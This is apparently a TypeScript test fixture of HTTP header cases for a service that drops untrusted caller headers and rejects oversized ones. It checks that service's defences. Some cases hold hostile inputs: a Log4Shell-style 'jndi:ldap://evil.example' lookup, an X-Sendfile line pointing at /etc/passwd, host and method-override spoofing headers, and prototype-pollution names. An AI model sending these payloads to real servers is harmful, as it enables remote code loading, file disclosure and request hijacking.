import { orderText, type RawPost } from "../../../testkit/raw-caller.ts";

/** A header case: the order with these lines, the status, and what of the caller's lines the service gets. */
export type HeaderCase = readonly [name: string, given: RawPost, status: number, passed?: readonly string[]];

const more = (...lines: string[]): RawPost => ({ more: lines });
const repeated = (count: number, line: (n: number) => string) =>
  more(...Array.from({ length: count }, (_, n) => line(n)));
const connection = (value: string, ...lines: string[]): RawPost => ({
  connection: [`Connection: ${value}`],
  more: lines,
});
/** Host, Content-Type, Connection and Content-Length: what every order has. */
const usualLines = 4;

/** Header lines that mean nothing to us, and what becomes of them (RFC 9110 7.6.1; product section 2). */
export const headerCases: readonly HeaderCase[] = [
  // Credentials of the caller: dropped in every casing and number; ours is the only one.
  ["a bearer token", more("Authorization: Bearer mine"), 200],
  ["a bearer token, shouted", more("AUTHORIZATION: BEARER mine"), 200],
  ["two bearer tokens", more("Authorization: Bearer mine", "authorization: Bearer mine-too"), 200],
  ["an empty Authorization", more("Authorization:"), 200],
  ["an Authorization of 8 KiB", more(`Authorization: Bearer ${"m".repeat(8_192)}`), 200],
  ["our own token's text", more("Authorization: Bearer token_1"), 200],
  ["an Authorization with odd blanks", more("authorization:\t Bearer  mine \t"), 200],
  [
    "names that servers take for Authorization",
    more("Authorization-: a", "X-Authorization: b", "HTTP_AUTHORIZATION: c"),
    200,
  ],
  ["credentials for proxies", more("Proxy-Authorization: Basic bTptCg==", "PROXY-authorization: x"), 200],
  ["cookies", more("Cookie: a=b", "COOKIE: c=d", "Cookie2: $Version=1"), 200],
  ["an answer's cookie", more("Set-Cookie: a=b"), 200],
  ["keys of many makers", more("X-Api-Key: m", "Api-Key: m", "X-Auth-Token: m", "X-Amz-Security-Token: m"), 200],
  ["signatures", more("Signature: m", "Signature-Input: m", "X-Signature: m", "Digest: m", "Content-MD5: m"), 200],
  ["certificates of the caller", more("X-Client-Cert: m", "Client-Cert: m", "X-Forwarded-Client-Cert: m"), 200],

  // Whose request it is, and where it goes: nobody is told by the caller.
  ["forwarding headers", more("Forwarded: for=192.0.2.1", "X-Forwarded-For: 192.0.2.1", "X-Real-IP: 192.0.2.1"), 200],
  ["other hosts", more("X-Forwarded-Host: evil.example", "X-Host: evil.example", "X-Original-Host: evil.example"), 200],
  [
    "other targets",
    more("X-Original-URL: /get_order", "X-Rewrite-URL: /get_order", "X-Forwarded-Path: /get_order"),
    200,
  ],
  ["other methods", more("X-HTTP-Method-Override: DELETE", "X-HTTP-Method: PUT", "X-Method-Override: GET"), 200],
  [
    "internal headers of servers",
    more("X-Accel-Redirect: /", "X-Sendfile: /etc/passwd", "X-Middleware-Subrequest: 1"),
    200,
  ],
  ["a Via of the caller", more("Via: 1.1 evil.example, 1.1 countersign"), 200],

  // Hop by hop.
  ["keep-alive in its old forms", more("Keep-Alive: timeout=99999, max=1", "Proxy-Connection: keep-alive"), 200],
  ["TE and Trailer", more("TE: trailers, deflate;q=0.5", "Trailer: Authorization, Host"), 200],
  ["Upgrade without Connection", more("Upgrade: h2c, websocket", "HTTP2-Settings: AAMAAABk"), 200],
  ["Connection nominates our Authorization", connection("close, Authorization"), 200],
  [
    "Connection nominates all that we set",
    connection("close, host, accept, content-type, content-length, via, x-request-id"),
    200,
  ],
  [
    "Connection nominates what may pass",
    connection("close, user-agent, TRACEPARENT", "User-Agent: shop", "Traceparent: t"),
    200,
  ],
  ["Connection nominates what asks to pass", connection("close,X-Tenant", "X-Tenant: a"), 200],
  [
    "Connection on two lines",
    { connection: ["Connection: x-tenant", "CONNECTION: close"], more: ["x-tenant: a"] },
    200,
  ],
  ["Connection with empty elements", connection(",, close ,,x-tenant,", "X-Tenant: a"), 200],
  ["Connection nominates itself", connection("close, connection, keep-alive"), 200],
  ["Connection nominates nonsense", connection('close, "x-tenant", \\x-tenant', "X-Tenant: a"), 200, ["x-tenant: a"]],

  [
    "Connection on two lines, in odd casing",
    {
      connection: ["Connection: close, USER-AGENT", "connection: x-tenant ,accept-language"],
      more: ["User-Agent: a", "X-Tenant: a", "Accept-Language: a", "TraceState: a=1"],
    },
    200,
    ["tracestate: a=1"],
  ],
  ["what the caller accepts", more("Accept: text/html", "Accept: */*"), 200],

  // What passes, and only as often as it was said.
  ["User-Agent", more("USER-AGENT: shop/2"), 200, ["user-agent: shop/2"]],
  [
    "languages, twice",
    more("Accept-Language: de", "accept-language: en"),
    200,
    ["accept-language: de", "accept-language: en"],
  ],
  ["a trace", more("traceparent: 00-a-b-01", "tracestate: c=d"), 200, ["traceparent: 00-a-b-01", "tracestate: c=d"]],
  ["what the configuration lets through", more("X-TENANT: a"), 200, ["x-tenant: a"]],
  ["the same with an underscore", more("X_Tenant: a"), 200],
  ["the same with a longer name", more("X-Tenant-Id: a", "X-X-Tenant: a"), 200],
  ["a value of 8 KiB", more(`X-Tenant: ${"t".repeat(8_192)}`), 200, [`x-tenant: ${"t".repeat(8_192)}`]],

  // How many, how long, how odd.
  ["101 lines", repeated(101 - usualLines, (n) => `X-${n}: 1`), 431],
  ["101 lines of one name", repeated(101 - usualLines, () => "X-Line: 1"), 431],
  ...[1_023, 1_024, 1_500].map(
    (count): HeaderCase => [`${count} lines`, repeated(count - usualLines, (n) => `X-${n}: 1`), 431],
  ),
  ["a value of 16 KiB", more(`X-Long: ${"x".repeat(16_384)}`), 431],
  ["a value of 200 KiB", more(`X-Long: ${"x".repeat(204_800)}`), 431],
  ["a target of 16 KiB", { target: `/${"x".repeat(16_384)}` }, 431],
  [
    "100 lines, of which the last is an Authorization",
    more(...Array.from({ length: 99 - usualLines }, (_, n) => `X-${n}: 1`), "Authorization: Bearer mine"),
    200,
  ],
  ["101 empty lines", repeated(101 - usualLines, (n) => `X-${n}:`), 431],
  ["2,500 lines", repeated(2_500, () => "X: 1"), 431],
  ["a name of 17 KiB", more(`${"X".repeat(17_408)}: 1`), 431],
  ["values of 17 KiB in all", repeated(17, (n) => `X-${n}: ${"x".repeat(1_024)}`), 431],
  ["100 lines, 96 of them credentials", repeated(100 - usualLines, () => "Authorization: Bearer mine"), 200],
  ["names of JavaScript objects", more("__proto__: a", "constructor: b", "toString: c", "hasOwnProperty: d"), 200],
  ["a name of one character", more("X: 1", "~: 2", "0: 3"), 200],
  [
    "values like markup and formats",
    more("X-Line: <script>", "X-Line: %s%n", "X-Line: $" + "{jndi:ldap://evil.example}"),
    200,
  ],
  ["the body's own text as a value", more(`X-Line: ${orderText}`), 200],
];
